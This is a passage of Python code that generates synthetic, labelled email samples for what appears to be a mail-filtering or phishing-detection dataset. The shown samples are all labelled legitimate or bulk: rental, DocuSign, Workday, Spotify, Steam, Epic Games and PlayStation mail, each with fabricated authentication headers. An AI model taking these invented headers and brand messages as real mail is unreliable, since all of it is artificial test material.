           "perfeita pra tua série de paisagens.\n\nBora marcar aquele café semana que vem? Tô livre quarta e quinta à "
           "tarde.\n\nBeijos\nBia")
    html = '<div dir="auto">' + "".join(f'<div dir="auto">{line or "<br>"}</div>' for line in msg.split("\n")) + "</div>\n"
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: Beatriz Albuquerque <{sender}>",
        f"Date: {rfc(plus(when, -2), '-0300')}",
        f"Message-ID: {gmail_msgid(seed)}",
        f"Subject: {enc('foto de Ilhabela 📸')}",
        f"To: Mariana Souza <{rcpt}>",
    ]
    body = mixed(f"000000000000{hx(seed + 'mx', 16)}", alt(seed, msg + "\n", html),
                 Leaf("image/jpeg", files.photo_jpeg(12, (1024, 768)), "base64", '; name="IMG_4471.jpeg"',
                      'attachment; filename="IMG_4471.jpeg"',
                      [f"Content-ID: <f_m5{hx(seed + 'cid', 9)}0>", f"X-Attachment-Id: f_m5{hx(seed + 'cid', 9)}0"]))
    return message(hdr(deliver(rcpt, plus(when, 1), a, google_sender=True), headers), body)


@sample("clean", "legit", "inmobiliaria-contrato-alquiler-es",
        "Spanish letting agent (company Microsoft 365, passes) sending a student the draft rental contract as a PDF and "
        "explaining that the deposit is paid at the signing appointment in the office - a legitimate housing mail with "
        "payment talk.")
def rental_es():
    seed = "b31-l-alquiler"
    when = utc("2025-08-28 10:18:33")
    rcpt = "lucia.fdez.gomez@gmail.com"
    sender = "c.navarro@inmocastellana.es"
    out, a, mid = m365_out(seed, when, sender, "EUR02-DB5-obe", region="eurprd")
    pdf = files.pdf([
        "CONTRATO DE ARRENDAMIENTO DE VIVIENDA (BORRADOR)",
        "",
        "En Madrid, a ___ de septiembre de 2025",
        "",
        "ARRENDADOR: D. Fernando Ortega Ruiz",
        "ARRENDATARIA: Dna. Lucia Fernandez Gomez",
        "INMUEBLE: C/ de Alcala 214, 3o B, 28028 Madrid",
        "RENTA MENSUAL: 950 EUR   FIANZA: una mensualidad (950 EUR)",
        "DURACION: 1 ano, prorrogable conforme a la LAU",
        "",
        "Gestionado por Inmobiliaria Castellana S.L. - CIF B86543210",
    ], title="Borrador contrato Alcala 214 3B")
    paras = [
        "Hola Lucía,", "",
        "Como hablamos por teléfono, te adjunto el borrador del contrato del piso de Alcalá 214 para que lo revises con "
        "calma antes de la firma.", "",
        "La firma sería el <b>martes 2 de septiembre a las 11:00 en nuestra oficina</b> (C/ de Alcalá 198). Ese día el "
        "propietario te entrega las llaves. La fianza y la primera mensualidad se pagan en la propia oficina en la firma, "
        "con tarjeta o transferencia; no hace falta adelantar nada antes.", "",
        "Trae por favor el DNI y la última nómina o la carta de la beca.", "",
        "Cualquier duda me dices.", "",
        "Un saludo,", "Carmen Navarro", "Inmobiliaria Castellana", "Tel. 91 555 24 18",
    ]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras) + "\n"
    headers = [
        *out,
        f"From: Carmen Navarro <{sender}>",
        f"To: =?iso-8859-1?Q?Luc=EDa_Fern=E1ndez?= <{rcpt}>",
        "Subject: Borrador contrato - Alcala 214 3B",
        "Thread-Topic: Borrador contrato - Alcala 214 3B",
        f"Thread-Index: AQHcGA{rnd(seed + 'ti', 23, B64)}==",
        f"Date: {rfc(when)}",
        f"Message-ID: {mid}",
        *ms_tail(seed, "inmocastellana.es", has_attach=True, lang="es-ES"),
        "MIME-Version: 1.0",
    ]
    inner = Multi("alternative", f"_000_{mid[1:].split('@')[0]}_", [text(plain), text(outlook_html(paras), "html")])
    body = mixed(f"_004_{mid[1:].split('@')[0]}_", inner,
                 attachment("application/pdf", "Borrador_contrato_Alcala214_3B.pdf", pdf))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("clean", "legit", "workday-student-job-application",
        "Genuine Workday notification from the university's tenant (ridgemont@myworkday.com, DKIM pass) confirming a "
        "student-employment application, linking to wd5.myworkday.com/ridgemont.")
def workday_app():
    seed = "b31-l-workday"
    when = utc("2025-09-03 18:44:02")
    rcpt = "tomas.nunez@my.ridgemont.edu"
    ip = f"216.20.{num(seed + 'ip', 246, 249)}.{num(seed + 'ip2', 10, 250)}"
    a = Auth(ip, f"mailout{num(seed + 'h', 1, 9)}.myworkday.com", "ridgemont@myworkday.com", "pass",
             [("myworkday.com", "wd1", "pass")], "pass", "reject", "myworkday.com", seed)
    html = html_page("""<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333333;">
<p>Dear Tomas,</p>
<p>Thank you for applying to the student employment position <b>R0018842 Library Circulation Assistant (Student Worker)</b> at Ridgemont University.</p>
<p>Your application has been received and will be reviewed by the hiring department. You can check the status of your application at any time in Workday under <i>Jobs Hub &gt; My Applications</i>.</p>
<p><a href="https://wd5.myworkday.com/ridgemont/d/home.htmld">Sign in to Workday</a></p>
<p>Student Employment Office<br />Ridgemont University</p>
<p style="font-size:11px;color:#777777;">This is an automated notification from Workday. Please do not reply to this email.</p>
</body>""")
    plain = ("Dear Tomas,\n\nThank you for applying to the student employment position R0018842 Library Circulation Assistant "
             "(Student Worker) at Ridgemont University.\n\nYour application has been received and will be reviewed by the "
             "hiring department. You can check the status in Workday under Jobs Hub > My Applications.\n\n"
             "https://wd5.myworkday.com/ridgemont/d/home.htmld\n\nStudent Employment Office\nRidgemont University\n")
    headers = [
        f"Received: from wd5-prod-app{num(seed + 'app', 10, 99)}.myworkday.com (unknown [10.{num(seed + 'r', 10, 99)}.{num(seed + 'r2', 1, 250)}.{num(seed + 'r3', 1, 250)}])\n"
        f"\tby {a.helo} (Postfix) with ESMTP id 4cH{rnd(seed + 'q', 7)}\n\tfor <{rcpt}>; {rfc(plus(when, -1))}",
        dkim("myworkday.com", "wd1", seed, when, h="Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type"),
        f"Date: {rfc(when)}",
        "From: Ridgemont University <ridgemont@myworkday.com>",
        "Reply-To: studentemployment@ridgemont.edu",
        f"To: {rcpt}",
        f"Message-ID: <{num(seed + 'm', 10**9, 10**10)}.{num(seed + 'm2', 10**5, 10**6)}.{int(when.timestamp()) * 1000}@wd5-prod.myworkday.com>",
        "Subject: Application Received: R0018842 Library Circulation Assistant (Student Worker)",
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"----=_Part_{num(seed + 'p', 100000, 999999)}_{num(seed + 'p2', 10**8, 10**9)}.{int(when.timestamp()) * 1000}",
                 [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("clean", "legit", "spotify-recibo-premium-pt",
        "Genuine Brazilian Portuguese Spotify Premium receipt from no-reply@spotify.com (Spotify's ESP, DKIM/DMARC pass) "
        "with links only to spotify.com.")
def spotify_receipt_pt():
    seed = "b31-l-spotify"
    when = utc("2025-12-05 12:03:27")
    rcpt = "joao.pedro.lima99@gmail.com"
    ip, helo, sg = sendgrid_hops(seed, when, "o4.email.spotify.com")
    mf = f"bounces+4438120-72aa-{rcpt.replace('@', '=')}@email.spotify.com"
    a = Auth(ip, helo, mf, "pass", [("spotify.com", "s1", "pass")], "pass", "reject", "spotify.com", seed)
    html = html_page("""<body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="520" cellpadding="0" cellspacing="0" border="0" style="font-family:'Spotify Circular',Helvetica,Arial,sans-serif;color:#181818;">
<tr><td style="padding:30px 0 20px 0;"><img src="https://message-editor.scdn.co/spotify_ab_1024216054.png" width="120" alt="Spotify" /></td></tr>
<tr><td style="font-size:28px;font-weight:bold;padding-bottom:16px;">Seu recibo</td></tr>
<tr><td style="font-size:15px;line-height:23px;">Ol&aacute;, Jo&atilde;o Pedro. Obrigado por assinar o Premium.</td></tr>
<tr><td style="padding:18px 0;"><table width="100%" cellpadding="6" cellspacing="0" border="0" style="font-size:14px;border-top:1px solid #e0e0e0;">
<tr><td>Premium Individual</td><td align="right">R$ 21,90</td></tr>
<tr><td>Data do pagamento</td><td align="right">05/12/2025</td></tr>
<tr><td>Forma de pagamento</td><td align="right">Pix</td></tr>
<tr><td>N&ordm; do pedido</td><td align="right">P3B7K1Q9X2</td></tr>
</table></td></tr>
<tr><td style="font-size:14px;line-height:21px;">Voc&ecirc; pode ver ou alterar seu plano a qualquer momento em <a href="https://www.spotify.com/br-pt/account/overview/" style="color:#1db954;">spotify.com/account</a>.</td></tr>
<tr><td style="padding:24px 0;font-size:11px;color:#6a6a6a;border-top:1px solid #e0e0e0;">Spotify Brasil Servi&ccedil;os de M&uacute;sica Ltda. &middot; <a href="https://www.spotify.com/br-pt/legal/" style="color:#6a6a6a;">Termos</a> &middot; <a href="https://www.spotify.com/br-pt/legal/privacy-policy/" style="color:#6a6a6a;">Privacidade</a></td></tr>
</table></td></tr></table></body>""", "Spotify")
    plain = ("Seu recibo\n\nOlá, João Pedro. Obrigado por assinar o Premium.\n\nPremium Individual  R$ 21,90\nData do "
             "pagamento: 05/12/2025\nForma de pagamento: Pix\nNº do pedido: P3B7K1Q9X2\n\n"
             "Conta: https://www.spotify.com/br-pt/account/overview/\n\nSpotify Brasil Serviços de Música Ltda.\n")
    headers = [
        *sg,
        dkim("spotify.com", "s1", seed, when, h="content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"),
        f"Date: {rfc(when)}",
        "From: Spotify <no-reply@spotify.com>",
        "Mime-Version: 1.0",
        f"Message-ID: {sg_msgid(seed)}",
        "Subject: Seu recibo do Spotify",
        f"X-SG-EID:\n =?us-ascii?Q?{rnd(seed + 'eid', 60, B62)}?=",
        f"To: {rcpt}",
        "X-Entity-ID: u001.cTR4Y0pqVw2c0m4m1cQ8ZA==",
    ]
    body = alt(seed, plain, html, hx(seed + "bd", 64))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("clean", "legit", "docusign-lease-renewal-genuine",
        "Genuine DocuSign envelope from a student-housing property manager (docusign.net passes, Reply-To the manager) "
        "asking to sign a lease renewal; the envelope message asks for nothing beyond the signature.")
def docusign_lease():
    seed = "b31-l-docusign"
    when = utc("2025-04-09 19:31:12")
    rcpt = "priya.nair@my.ridgemont.edu"
    ip = f"64.207.219.{num(seed + 'ds', 130, 143)}"
    mf = f"bounces+{num(seed + 'db', 1000000, 9999999)}@docusign.net"
    a = Auth(ip, f"mailout{num(seed + 'dsh', 1, 9)}.docusign.net", mf, "pass", [("docusign.net", "s1", "pass")], "pass",
             "reject", "docusign.net", seed)
    link = (f"https://na3.docusign.net/Signing/EmailStart.aspx?a={uuid(seed + 'a')}&amp;etti=24&amp;acct={uuid(seed + 'acct')}"
            f"&amp;er={uuid(seed + 'er')}")
    html = html_page(f"""<body style="margin:0;padding:0;background-color:#eaeaea;">
<table align="center" border="0" cellpadding="0" cellspacing="0" width="100%" style="background-color:#eaeaea;max-width:640px;"><tr><td style="padding:10px 24px;"><img src="https://na3.docusign.net/Signing/Images/email/Email_Logo.png" alt="DocuSign" width="116" height="34" /></td></tr>
<tr><td style="padding:0 24px 30px 24px;"><table border="0" cellpadding="0" cellspacing="0" width="100%" style="background-color:#1e4ca1;"><tr><td align="center" style="padding:28px 36px 36px 36px;color:#ffffff;font-size:16px;font-family:Helvetica,Arial,Sans Serif;text-align:center;">
Elm Street Student Living sent you a document to review and sign.
<table border="0" cellspacing="0" cellpadding="0" width="100%"><tr><td align="center" style="padding-top:30px;"><a href="{link}" style="font-size:15px;color:#333333;background-color:#ffc423;font-family:Helvetica,Arial,Sans Serif;font-weight:bold;text-decoration:none;border-radius:2px;display:inline-block;"><span style="padding:0px 24px;line-height:44px;">REVIEW DOCUMENT</span></a></td></tr></table>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;background-color:white;font-family:Helvetica,Arial,Sans Serif;">
<p style="font-size:15px;color:#333333;line-height:20px;"><b>Rachel Moreno</b><br /><a href="mailto:leasing@elmstreetliving.com" style="color:#2463d1;">leasing@elmstreetliving.com</a></p>
<p style="font-size:15px;color:#333333;line-height:20px;">Hi Priya, here is your 2025-26 lease renewal for 412 Elm St, Unit 3B. Rent and terms are the same as we discussed at the office. Please sign by April 18. Thank you!</p></td></tr>
<tr><td style="padding:0 24px 12px 24px;background-color:#ffffff;font-family:Helvetica,Arial,Sans Serif;font-size:11px;color:#666666;"><b>Do Not Share This Email</b><br />This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</td></tr>
<tr><td style="padding:30px 24px 45px 24px;font-size:11px;color:#666666;font-family:Helvetica,Arial,Sans Serif;">This message was sent to you by Rachel Moreno who is using the Docusign Electronic Signature Service.</td></tr>
</table></body>""", "")
    plain = ("Elm Street Student Living sent you a document to review and sign.\n\nREVIEW DOCUMENT: "
             f"{link.replace('&amp;', '&')}\n\nRachel Moreno\nleasing@elmstreetliving.com\n\nHi Priya, here is your 2025-26 "
             "lease renewal for 412 Elm St, Unit 3B. Rent and terms are the same as we discussed at the office. Please sign "
             "by April 18. Thank you!\n")
    headers = [
        f"Received: from docusign.net (unknown [10.{num(seed + 'r', 10, 99)}.{num(seed + 'r2', 1, 250)}.{num(seed + 'r3', 1, 250)}])\n"
        f"\tby mailout{num(seed + 'dsh', 1, 9)}.docusign.net (Postfix) with ESMTP id 4bZ{rnd(seed + 'q', 7)}\n\tfor <{rcpt}>; {rfc(plus(when, -1), '-0700')}",
        dkim("docusign.net", "s1", seed, when, h="From:Reply-To:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        "MIME-Version: 1.0",
        "From: \"Rachel Moreno via Docusign\" <dse_NA3@docusign.net>",
        "Reply-To: \"Rachel Moreno\" <leasing@elmstreetliving.com>",
        f"To: \"Priya Nair\" <{rcpt}>",
        f"Date: {rfc(when, '-0700')}",
        "Subject: Complete with Docusign: 412 Elm St 3B - Lease Renewal 2025-26",
        f"Message-ID: <{hx(seed + 'mid', 32)}@docusign.net>",
        f"X-DocuSign-EnvelopeID: {uuid(seed + 'env').upper()}",
        "X-Mailer: Docusign",
    ]
    body = Multi("alternative", f"----=_NextPart_{hx(seed + 'b', 8).upper()}_{hx(seed + 'b2', 4).upper()}_{hx(seed + 'b3', 4).upper()}",
                 [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


# ============================================================================================
# legitimate: bulk mail (newsletters, marketing, notification digests)
# ============================================================================================

def sfmc(seed: str, when: datetime, rcpt: str, dom: str, mid_dom: str = "xt.local") -> tuple[Auth, list[str], str, str]:
    """Salesforce Marketing Cloud (ExactTarget) sending for a brand's subdomain."""
    ip = f"13.111.{num(seed + 'et', 4, 200)}.{num(seed + 'et2', 2, 250)}"
    job = num(seed + "job", 1000000, 9999999)
    sub = num(seed + "sub", 100000, 999999)
    mf = f"bounce-{num(seed + 'b1', 10, 99)}_HTML-{num(seed + 'b2', 10**8, 10**9)}-{sub}-{num(seed + 'mid', 7000000, 7999999)}-{num(seed + 'b4', 1, 9)}@bounce.{dom}"
    a = Auth(ip, f"mta.{dom}", mf, "pass", [(dom, "200608", "pass")], "pass", "reject", dom, seed)
    lines = [
        dkim(dom, "200608", seed, when, h="From:To:Subject:Date:List-Unsubscribe:MIME-Version:Reply-To:List-ID:"
             "X-CSA-Complaints:Message-ID:Content-Type"),
        f"Received: by mta.{dom} id h{rnd(seed + 'q', 10).lower()} for <{rcpt}>; {rfc(plus(when, -2), '-0600')}",
    ]
    mid = f"<{uuid(seed + 'sfmc')}@atl1s07mta{num(seed + 'mta', 1000, 2999)}.{mid_dom}>"
    return a, lines, f"{job}_{sub}", mid


@sample("bulk", "bulk", "steam-wishlist-sale",
        "Genuine Steam 'an item on your wishlist is on sale' mailing from noreply@steampowered.com (Valve's servers, "
        "DKIM/DMARC pass) with store links and preference/unsubscribe link.")
def steam_wishlist():
    seed = "b31-b-steamwish"
    when = utc("2025-06-26 17:04:22")
    rcpt = "dev.ortiz.77@gmail.com"
    ip = f"208.64.202.{num(seed + 'ip', 30, 60)}"
    a = Auth(ip, f"smtp-0{num(seed + 'h', 1, 6)}-tuk1.steampowered.com", "noreply@steampowered.com", "pass",
             [("steampowered.com", "smtp", "pass")], "pass", "reject", "steampowered.com", seed)
    games = [("Baldur's Gate 3", "1086940", "$59.99", "$41.99", "-30%"), ("Hades II", "1145350", "$29.99", "$23.99", "-20%"),
             ("Lethal Company", "1966720", "$9.99", "$6.99", "-30%")]
    rows = "".join(
        f'<tr><td style="padding:10px 0;"><a href="https://store.steampowered.com/app/{app}/?snr=1_4600_4_" style="color:#ffffff;'
        f'text-decoration:none;font-size:15px;">{name}</a></td><td align="right"><span style="background:#4c6b22;color:#beee11;'
        f'padding:2px 6px;">{cut}</span> <span style="color:#7193a6;text-decoration:line-through;font-size:12px;">{old}</span> '
        f'<span style="color:#beee11;">{new}</span></td></tr>' for name, app, old, new, cut in games)
    html = html_page(f"""<body style="margin:0;padding:0;background-color:#171a21;">
<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#171a21"><tr><td align="center">
<table width="560" cellpadding="0" cellspacing="0" border="0" style="font-family:Arial,Helvetica,sans-serif;color:#c6d4df;">
<tr><td style="padding:20px 0;"><a href="https://store.steampowered.com/"><img src="https://store.cloudflare.steamstatic.com/public/shared/images/email/email_header_logo.png" width="160" alt="Steam" border="0" /></a></td></tr>
<tr><td style="font-size:20px;color:#ffffff;padding-bottom:10px;">Items on your wishlist are on sale!</td></tr>
<tr><td style="font-size:13px;padding-bottom:10px;">The Steam Summer Sale is here. Offers end July 10 at 10am Pacific.</td></tr>
<tr><td><table width="100%" cellpadding="0" cellspacing="0" border="0">{rows}</table></td></tr>
<tr><td style="padding:20px 0;"><a href="https://store.steampowered.com/wishlist/" style="color:#66c0f4;">View your wishlist</a></td></tr>
<tr><td style="font-size:11px;color:#61686d;padding:16px 0;">You received this email because you have wishlist notifications enabled. <a href="https://store.steampowered.com/account/emailoptout/?token={rnd(seed + 'tok', 32)}" style="color:#8f98a0;">Change your email preferences</a>.<br />Valve Corporation, PO Box 1688, Bellevue, WA 98009.</td></tr>
</table></td></tr></table></body>""", "Steam")
    plain = ("Items on your wishlist are on sale!\n\nThe Steam Summer Sale is here. Offers end July 10 at 10am Pacific.\n\n"
             + "".join(f"{name}: {new} ({cut})\n  https://store.steampowered.com/app/{app}/\n" for name, app, old, new, cut in games)
             + "\nView your wishlist: https://store.steampowered.com/wishlist/\n\nChange your email preferences: "
             f"https://store.steampowered.com/account/emailoptout/?token={rnd(seed + 'tok', 32)}\n")
    headers = [
        f"Received: from steampowered.com (unknown [10.{num(seed + 'r', 10, 99)}.{num(seed + 'r2', 1, 250)}.{num(seed + 'r3', 1, 250)}])\n"
        f"\tby {a.helo} (Postfix) with ESMTP id 4bP{rnd(seed + 'q', 7)}\n\tfor <{rcpt}>; {rfc(plus(when, -1), '-0700')}",
        dkim("steampowered.com", "smtp", seed, when, h="Date:To:From:Subject:Message-ID:List-Unsubscribe:MIME-Version:Content-Type"),
        f"Date: {rfc(when, '-0700')}",
        f"To: {rcpt}",
        "From: Steam <noreply@steampowered.com>",
        "Subject: An item on your Steam wishlist is on sale!",
        f"Message-ID: <{hx(seed + 'mid', 32)}@store.steampowered.com>",
        f"List-Unsubscribe: <https://store.steampowered.com/account/emailoptout/?token={rnd(seed + 'tok', 32)}>",
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"b1_{hx(seed + 'b', 32)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("bulk", "bulk", "epic-games-free-games-newsletter",
        "Genuine Epic Games Store weekly free-games newsletter sent through Salesforce Marketing Cloud from "
        "mail.epicgames.com (DKIM/DMARC pass), with click-tracking on click.mail.epicgames.com and one-click unsubscribe.")
def epic_newsletter():
    seed = "b31-b-epic"
    when = utc("2025-01-30 16:11:40")
    rcpt = "ellie.park@icloud.com"
    dom = "mail.epicgames.com"
    a, lines, job, mid = sfmc(seed, when, rcpt, dom)
    def trk(n):
        return f"https://click.{dom}/?qs={hx(seed + 'qs' + str(n), 160)}"
    html = html_page(f"""<body style="margin:0;background:#121212;">
<center><table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#202020;font-family:Inter,Arial,sans-serif;color:#ffffff;">
<tr><td align="center" style="padding:24px;"><a href="{trk(1)}"><img src="https://image.{dom}/lib/fe3611737564047c7c1d73/m/1/epic-logo-white.png" width="50" alt="Epic Games" border="0" /></a></td></tr>
<tr><td align="center" style="padding:0 30px 10px 30px;font-size:28px;font-weight:bold;">Free games this week</td></tr>
<tr><td align="center" style="padding:0 40px 20px 40px;font-size:15px;color:#cccccc;line-height:22px;">Claim them before Feb 6 at 8:00 AM PT and they're yours to keep.</td></tr>
<tr><td align="center" style="padding:10px;"><a href="{trk(2)}"><img src="https://image.{dom}/lib/fe3611737564047c7c1d73/m/1/free-games-0130.jpg" width="560" alt="Free games: Kingdom Come: Deliverance and Hell Let Loose" border="0" /></a></td></tr>
<tr><td align="center" style="padding:20px;"><a href="{trk(3)}" style="background:#0074e4;color:#ffffff;padding:14px 30px;border-radius:4px;text-decoration:none;font-weight:bold;">GET FREE GAMES</a></td></tr>
<tr><td align="center" style="padding:20px 30px;font-size:11px;color:#999999;line-height:16px;">&copy; 2025, Epic Games, Inc. All rights reserved. Epic Games, Inc., 620 Crossroads Blvd., Cary, NC 27518<br />
<a href="{trk(4)}" style="color:#999999;">Privacy Policy</a> &middot; <a href="https://click.{dom}/subscription_center.aspx?jwt={rnd(seed + 'jwt', 120, B62 + '-_')}" style="color:#999999;">Unsubscribe</a></td></tr>
</table></center>
<img src="https://click.{dom}/open.aspx?ffcb10-{hx(seed + 'open', 40)}" width="1" height="1" alt="" /></body>""", "Epic Games Store")
    plain = ("Free games this week\n\nClaim them before Feb 6 at 8:00 AM PT and they're yours to keep.\n\nGET FREE GAMES: "
             f"{trk(3)}\n\n(c) 2025, Epic Games, Inc.\nUnsubscribe: https://click.{dom}/subscription_center.aspx?jwt="
             f"{rnd(seed + 'jwt', 120, B62 + '-_')}\n")
    headers = [
        *lines,
        "From: Epic Games Store <news@mail.epicgames.com>",
        f"To: {rcpt}",
        "Subject: Free games this week: Kingdom Come: Deliverance & Hell Let Loose",
        f"Date: {rfc(when, '-0600')}",
        f"List-Unsubscribe: <https://click.{dom}/subscription_center.aspx?jwt={rnd(seed + 'jwt', 120, B62 + '-_')}>,\n"
        f" <mailto:leave-{hx(seed + 'leave', 60)}@leave.{dom}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "MIME-Version: 1.0",
        "Reply-To: Epic Games Store <reply-fe3611737564047c7c1d73-1234_HTML@mail.epicgames.com>",
        f"List-ID: <{num(seed + 'lid', 100000, 999999)}.xt.local>",
        "X-CSA-Complaints: csa-complaints@eco.de",
        f"x-job: {job}",
        f"Message-ID: {mid}",
        "X-SFMC-Stack: 7",
    ]
    body = Multi("alternative", f"{uuid(seed + 'bnd')}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("bulk", "bulk", "playstation-plus-monthly-games-de",
        "Genuine German PlayStation newsletter ('Die PlayStation Plus-Spiele im Januar') from "
        "Sony@email.sonyentertainmentnetwork.com via Salesforce Marketing Cloud, DKIM/DMARC pass, with unsubscribe.")
def playstation_de():
    seed = "b31-b-psde"
    when = utc("2025-01-02 16:30:05")
    rcpt = "jonas.weber.96@gmail.com"
    dom = "email.sonyentertainmentnetwork.com"
    a, lines, job, mid = sfmc(seed, when, rcpt, dom)
    def trk(n):
        return f"https://click.{dom}/?qs={hx(seed + 'qs' + str(n), 160)}"
    html = html_page(f"""<body style="margin:0;background:#ffffff;">
<center><table width="600" cellpadding="0" cellspacing="0" border="0" style="font-family:'SST',Arial,sans-serif;color:#1f1f1f;">
<tr><td style="background:#00439c;padding:18px 24px;"><a href="{trk(1)}"><img src="https://image.{dom}/lib/fe9a13727d6c057a7c/m/1/ps-logo-white.png" width="40" alt="PlayStation" border="0" /></a></td></tr>
<tr><td style="padding:28px 24px 8px 24px;font-size:26px;font-weight:bold;">Die PlayStation Plus-Spiele im Januar</td></tr>
<tr><td style="padding:8px 24px;font-size:15px;line-height:23px;">Ab dem 7. Januar kannst du dir als PlayStation Plus-Mitglied diese Spiele ohne Aufpreis zu deiner Bibliothek hinzuf&uuml;gen:</td></tr>
<tr><td style="padding:8px 24px;font-size:15px;line-height:24px;"><b>Suicide Squad: Kill the Justice League</b><br /><b>Need for Speed Hot Pursuit Remastered</b><br /><b>The Stanley Parable: Ultra Deluxe</b></td></tr>
<tr><td style="padding:20px 24px;"><a href="{trk(2)}" style="background:#0070d1;color:#ffffff;padding:12px 26px;border-radius:24px;text-decoration:none;font-weight:bold;">Mehr erfahren</a></td></tr>
<tr><td style="padding:24px;font-size:11px;color:#666666;line-height:16px;border-top:1px solid #e0e0e0;">Du erh&auml;ltst diese E-Mail, weil du dich f&uuml;r Neuigkeiten von PlayStation angemeldet hast. <a href="https://click.{dom}/subscription_center.aspx?jwt={rnd(seed + 'jwt', 120, B62 + '-_')}" style="color:#666666;">Abmelden</a> &middot; <a href="{trk(3)}" style="color:#666666;">Datenschutz</a><br />Sony Interactive Entertainment Europe Limited, 10 Great Marlborough Street, London, W1F 7LP, Vereinigtes K&ouml;nigreich.</td></tr>
</table></center>
<img src="https://click.{dom}/open.aspx?ffcb10-{hx(seed + 'open', 40)}" width="1" height="1" alt="" /></body>""", "PlayStation")
    plain = ("Die PlayStation Plus-Spiele im Januar\n\nAb dem 7. Januar: Suicide Squad: Kill the Justice League, Need for Speed "
             "Hot Pursuit Remastered, The Stanley Parable: Ultra Deluxe.\n\nMehr erfahren: "
             f"{trk(2)}\n\nAbmelden: https://click.{dom}/subscription_center.aspx?jwt={rnd(seed + 'jwt', 120, B62 + '-_')}\n")
    headers = [
        *lines,
        f"From: PlayStation <Sony@{dom}>",
        f"To: {rcpt}",
        f"Subject: {enc('Die PlayStation Plus-Spiele im Januar sind da 🎮')}",
        f"Date: {rfc(when, '-0600')}",
        f"List-Unsubscribe: <https://click.{dom}/subscription_center.aspx?jwt={rnd(seed + 'jwt', 120, B62 + '-_')}>,\n"
        f" <mailto:leave-{hx(seed + 'leave', 60)}@leave.{dom}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "MIME-Version: 1.0",
        f"Reply-To: PlayStation <reply-fe9a13727d6c057a7c-2211_HTML@{dom}>",
        f"List-ID: <{num(seed + 'lid', 100000, 999999)}.xt.local>",
        "X-CSA-Complaints: csa-complaints@eco.de",
        f"x-job: {job}",
        f"Message-ID: {mid}",
        "X-SFMC-Stack: 50",
    ]
    body = Multi("alternative", f"{uuid(seed + 'bnd')}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("bulk", "bulk", "ridgemont-student-life-weekly",
        "The university's real weekly student-life newsletter sent through Campaign Monitor on behalf of ridgemont.edu "
        "(DKIM for ridgemont.edu passes), with events, tracked links to ridgemont.edu pages and an unsubscribe link.")
def ridgemont_newsletter():
    seed = "b31-b-studentlife"
    when = utc("2025-09-29 13:00:17")
    rcpt = "d.okafor@my.ridgemont.edu"
    ip = f"203.55.21.{num(seed + 'ip', 10, 250)}"
    mf = f"bounces+{num(seed + 'bn', 10**6, 10**7)}-{hx(seed + 'bx', 4)}-{rcpt.replace('@', '=')}@cmail20.com"
    a = Auth(ip, f"mail{num(seed + 'h', 10, 99)}.cmail20.com", mf, "pass",
             [("ridgemont.edu", "cm", "pass"), ("cmail20.com", "cs2013", "pass")], "pass", "quarantine", "ridgemont.edu", seed)
    def trk(n):
        return f"https://ridgemont.cmail20.com/t/d-l-{rnd(seed + 'l' + str(n), 7).lower()}-{rnd(seed + 'u', 8).lower()}-{'yhtkjd'[n % 6]}/"
    items = [("Fall Involvement Fair", "Wed Oct 1, 11am-3pm, Campus Green - 200+ clubs, free food trucks."),
             ("Flu shot clinic", "Thu Oct 2 & Fri Oct 3, Student Health Center, no appointment needed."),
             ("Homecoming ticket lottery", "Enter by Oct 5 through the Student Life site."),
             ("Study abroad info session", "Mon Oct 6, 5pm, Hale Hall 104.")]
    rows = "".join(f'<tr><td style="padding:12px 0;border-bottom:1px solid #e5e5e5;"><a href="{trk(i)}" style="color:#7a1c2b;'
                   f'font-weight:bold;font-size:16px;text-decoration:none;">{t}</a><br /><span style="font-size:14px;color:#444;">{d}'
                   f"</span></td></tr>" for i, (t, d) in enumerate(items))
    html = html_page(f"""<body style="margin:0;background:#f4f1ec;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:20px 0;">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:Georgia,'Times New Roman',serif;">
<tr><td style="background:#7a1c2b;padding:22px 28px;color:#ffffff;font-size:24px;">The Ridgemont Weekly</td></tr>
<tr><td style="padding:20px 28px 0 28px;font-family:Arial,sans-serif;font-size:14px;color:#444;">Week of September 29 &middot; Division of Student Life</td></tr>
<tr><td style="padding:8px 28px;font-family:Arial,sans-serif;"><table width="100%" cellpadding="0" cellspacing="0" border="0">{rows}</table></td></tr>
<tr><td style="padding:24px 28px;font-family:Arial,sans-serif;font-size:11px;color:#777777;">Ridgemont University &middot; Division of Student Life &middot; 100 University Ave, Ridgemont, OH 43210<br />You are receiving this because you are an enrolled student. <a href="https://ridgemont.cmail20.com/t/d-u-{rnd(seed + 'unsub', 7).lower()}-{rnd(seed + 'u', 8).lower()}/" style="color:#777777;">Unsubscribe</a></td></tr>
</table></td></tr></table>
<img src="https://ridgemont.cmail20.com/t/d-o-{rnd(seed + 'open', 7).lower()}-{rnd(seed + 'u', 8).lower()}/o.gif" width="1" height="1" border="0" alt="" /></body>""", "The Ridgemont Weekly")
